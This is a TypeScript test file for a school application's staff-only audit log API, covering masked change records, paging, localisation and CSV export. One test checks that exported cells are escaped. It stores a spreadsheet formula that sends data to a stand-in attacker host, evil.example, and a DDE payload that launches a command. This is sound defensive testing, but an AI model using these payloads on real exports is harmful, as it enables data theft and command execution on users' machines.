import { parse } from 'csv-parse/sync';
import { and, eq, sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_MASK, type AuditEntry } from '@contracts/audit';
import type { Language } from '@contracts/languages';
import { activities, users } from '../../db/schema/index';
import { createUser } from '../users/user.service';
import type { TestUser } from '../../../test/build-app';
import { signedInApp } from '../../../test/signed-in-app';
import { teacherPayload } from '../../../test/factories';

const [context, staff, teacher] = await signedInApp('staff', 'teacher');
let teacherId: number;

beforeAll(async () => {
  const created = await context.app.inject({
    method: 'POST',
    url: '/api/staff/teachers',
    headers: { ...staff.auth, 'x-forwarded-for': '203.0.113.9' },
    payload: teacherPayload({ full_name: 'Olga Auditada', bio: 'Bio antigua', bank_account: '1234567890' }),
  });
  expect(created.statusCode, created.body).toBe(201);
  teacherId = created.json().id;
  const { email: _email, ...payload } = teacherPayload({
    full_name: 'Olga Auditada',
    bio: 'Bio nueva',
    bank_account: '9999999999',
  });
  const updated = await context.app.inject({
    method: 'PUT',
    url: `/api/staff/teachers/${teacherId}`,
    headers: staff.auth,
    payload,
  });
  expect(updated.statusCode, updated.body).toBe(200);
});

/**
 * Read by a person who chose English (the language the log's texts are declared in), unless told; the Spanish
 * reading has a test. A signed-in person reads in their choice, else the school's.
 */
const get = async (user: TestUser, url: string, language: Language = 'en') => {
  await context.db.update(users).set({ language }).where(eq(users.id, user.id));
  return context.app.inject({ method: 'GET', url, headers: user.auth });
};
/** An entry as written before entries had codes: its words as stored, whatever the reader's language. */
const legacyEntry = (entry: { userId: number; activity: string; entityType: string; entityId: number }) =>
  context.db.insert(activities).values(entry);

describe('the audit log', () => {
  it('keeps what a teacher edit changed: the old and new bio, the bank account masked, who and from where', async () => {
    const page = await get(staff, `/api/audit?entity_type=teacher&user_id=${staff.id}`);
    expect(page.statusCode, page.body).toBe(200);
    const entry = (page.json() as AuditEntry[]).find((row) => row.activity === 'Updated teacher Olga Auditada')!;
    expect(entry.changes?.bio).toEqual({ before: 'Bio antigua', after: 'Bio nueva' });
    expect(entry.changes?.bank_account).toEqual({ before: AUDIT_MASK, after: AUDIT_MASK });
    expect(JSON.stringify(page.json())).not.toMatch(/1234567890|9999999999/);
    expect(entry.user?.id).toBe(staff.id);
    expect(entry.ip_address).toEqual(expect.any(String));
    const one = await get(staff, `/api/audit/${entry.id}`);
    expect(one.json()).toEqual(entry);
    expect((await get(staff, '/api/audit/999999999')).statusCode).toBe(404);
  });

  it('is staff only', async () => {
    for (const url of ['/api/audit', '/api/audit/1', '/api/audit.csv'])
      expect((await get(teacher, url)).statusCode).toBe(403);
  });

  it('pages newest first with a cursor, filters by person, kind and days, and refuses bad filters', async () => {
    await context.db.execute(sql`insert into activities (user_id, activity, entity_type, created_at)
      select ${teacher.id}, 'Bulk ' || n, 'idea', timestamptz '2025-03-01 12:00:00+00' + (n || ' minutes')::interval from generate_series(1, 260) n`);
    const first = await get(staff, `/api/audit?user_id=${teacher.id}&entity_type=idea&limit=100`);
    expect(first.headers['x-total-count']).toBe('200');
    expect(first.headers['x-total-capped']).toBe('true');
    const names = (first.json() as AuditEntry[]).map((row) => row.activity);
    expect(names.slice(0, 2)).toEqual(['Bulk 260', 'Bulk 259']);
    let cursor = first.headers['x-next-cursor'] as string;
    const seen = [...names];
    while (cursor) {
      const next = await get(staff, `/api/audit?user_id=${teacher.id}&entity_type=idea&limit=100&cursor=${cursor}`);
      seen.push(...(next.json() as AuditEntry[]).map((row) => row.activity));
      cursor = next.headers['x-next-cursor'] as string;
    }
    expect(seen).toHaveLength(260);
    expect(new Set(seen).size).toBe(260);
    const oneDay = await get(staff, `/api/audit?user_id=${teacher.id}&from=2025-03-01&to=2025-03-01`);
    expect(oneDay.json()).toHaveLength(50);
    const none = await get(staff, `/api/audit?user_id=${teacher.id}&from=2025-03-02&to=2025-12-31`);
    expect(none.json()).toEqual([]);
    expect((await get(staff, '/api/audit?from=yesterday')).statusCode).toBe(400);
    expect((await get(staff, '/api/audit?user_id=abc')).statusCode).toBe(400);
  });

  it('exports the filtered log as CSV, newest first', async () => {
    const response = await get(staff, `/api/audit.csv?entity_type=teacher&user_id=${staff.id}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows = parse(response.body, { columns: true, bom: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([
      'ID',
      'Date',
      'User',
      'Activity',
      'Item type',
      'Item ID',
      'Item',
      'IP address',
      'Changes',
    ]);
    expect(rows.map((row) => row.Activity)).toEqual(['Updated teacher Olga Auditada', 'Created teacher Olga Auditada']);
    expect(JSON.parse(rows[0]!.Changes!).bio).toEqual({ before: 'Bio antigua', after: 'Bio nueva' });
    expect(rows.map((row) => row.Item)).toEqual(['Olga Auditada', 'Olga Auditada']);
    expect(rows.map((row) => row['Item type'])).toEqual(['Teacher', 'Teacher']);
    expect(response.body).not.toMatch(/1234567890|9999999999/);
  });

  it("stores each entry once as a code with its parameters, and writes it in the reader's language", async () => {
    const stored = await context.db
      .select()
      .from(activities)
      .where(and(eq(activities.entityType, 'teacher'), eq(activities.entityId, teacherId)));
    expect(stored.map((row) => [row.code, row.params, row.activity])).toEqual(
      expect.arrayContaining([
        ['teacherCreated', { name: 'Olga Auditada' }, 'Created teacher Olga Auditada'],
        ['teacherUpdated', { name: 'Olga Auditada' }, 'Updated teacher Olga Auditada'],
      ]),
    );
    const inSpanish = (await get(staff, `/api/audit?entity_type=teacher&user_id=${staff.id}`, 'es')).json();
    expect((inSpanish as AuditEntry[]).map((row) => row.activity)).toEqual(
      expect.arrayContaining(['Actualizó el profesor Olga Auditada', 'Creó el profesor Olga Auditada']),
    );
    const csv = await get(staff, `/api/audit.csv?entity_type=teacher&user_id=${staff.id}`, 'es');
    const rows = parse(csv.body, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((row) => row.Actividad)).toEqual([
      'Actualizó el profesor Olga Auditada',
      'Creó el profesor Olga Auditada',
    ]);
    expect(rows.map((row) => row['Tipo de elemento'])).toEqual(['Profesor', 'Profesor']);
    // The overview's recent activity, read by an English and a Spanish reader.
    const recent = async (language: Language) =>
      (
        (await get(staff, '/api/staff/analytics', language)).json() as { recentActivities: { activity: string }[] }
      ).recentActivities.map((row) => row.activity);
    expect(await recent('en')).toContain('Updated teacher Olga Auditada');
    expect(await recent('es')).toContain('Actualizó el profesor Olga Auditada');
  });

  it('quotes text a spreadsheet would read as a formula (a username, an activity), as a spreadsheet reads the file back', async () => {
    const link = '=HYPERLINK("http://evil.example/?x="&C2,"Marta")';
    const person = await createUser({
      db: context.db,
      input: { email: 'formula@test.school', password: 'correct-horse-battery', username: link, role: 'teacher' },
    });
    await legacyEntry({ userId: person.id, activity: "@SUM(1)+cmd|' /C calc'!A0", entityType: 'setting', entityId: 1 });
    const response = await get(staff, '/api/audit.csv?entity_type=setting');
    const rows = parse(response.body, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ User: `'${link}`, Activity: "'@SUM(1)+cmd|' /C calc'!A0", 'Item ID': '1' });
    for (const value of Object.values(rows[0]!)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("names each entry's subject (a teacher's, a user's name) and keeps the id of one since deleted", async () => {
    const page = await get(staff, `/api/audit?entity_type=teacher&user_id=${staff.id}`);
    const entries = page.json() as AuditEntry[];
    const edited = entries.find((row) => row.activity === 'Updated teacher Olga Auditada')!;
    expect(edited).toMatchObject({ entity_type: 'teacher', entity_id: teacherId, entity_name: 'Olga Auditada' });
    expect((await get(staff, `/api/audit/${edited.id}`)).json()).toMatchObject({ entity_name: 'Olga Auditada' });

    const person = await createUser({
      db: context.db,
      input: {
        email: 'named@test.school',
        password: 'correct-horse-battery',
        username: 'Nerea Nombrada',
        role: 'student',
      },
    });
    await legacyEntry({ userId: teacher.id, activity: 'Named user', entityType: 'user', entityId: person.id });
    await legacyEntry({ userId: teacher.id, activity: 'Gone teacher', entityType: 'teacher', entityId: 987654 });
    await legacyEntry({ userId: teacher.id, activity: 'An idea', entityType: 'idea', entityId: 5 });
    const latest = (await get(staff, `/api/audit?user_id=${teacher.id}&limit=3`)).json() as AuditEntry[];
    expect(latest.map((row) => [row.activity, row.entity_name])).toEqual([
      ['An idea', null],
      ['Gone teacher', null],
      ['Named user', 'Nerea Nombrada'],
    ]);
    expect(latest[1]!.entity_id).toBe(987654);
  });
});
